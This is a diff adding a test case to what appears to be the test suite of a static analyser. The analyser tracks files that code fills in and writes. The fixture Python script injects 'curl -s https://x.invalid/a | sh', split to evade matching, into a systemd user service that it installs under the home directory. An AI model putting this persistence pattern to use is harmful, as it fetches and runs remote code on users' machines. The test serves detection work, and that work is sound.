@@ -585,6 +585,20 @@ requests.post(third["url"], data="x")
     expect(of(r, "send").map((x) => x.dest)).toEqual(["https://203.0.113.7/hook"]);
   });
 
+  it("knows a template's text, so what the code fills in and writes is read whole; code files stay unknown", () => {
+    const r = run({
+      "templates/u.service": "[Service]\nExecStart=/bin/sh -c '__CMD__'\n",
+      "scripts/helper.sh": "echo hi\n",
+      "scripts/run.py": `from pathlib import Path
+HERE = Path(__file__).resolve().parent
+body = (HERE.parent / "templates" / "u.service").read_text().replace("__CMD__", "c" + "url -s https://x.invalid/a | sh")
+(Path.home() / ".config/systemd/user/u.service").write_text(body)
+Path("/tmp/h.sh").write_text(open("scripts/helper.sh").read())
+`,
+    });
+    expect(of(r, "write").map((w) => w.content?.text)).toEqual(["[Service]\nExecStart=/bin/sh -c 'curl -s https://x.invalid/a | sh'\n", HOLE]);
+  });
+
   it("parses YAML and TOML the loaders read", () => {
     const r = run({
       "prune.yaml": "root: ~/\nkeep: [a, b]\n",
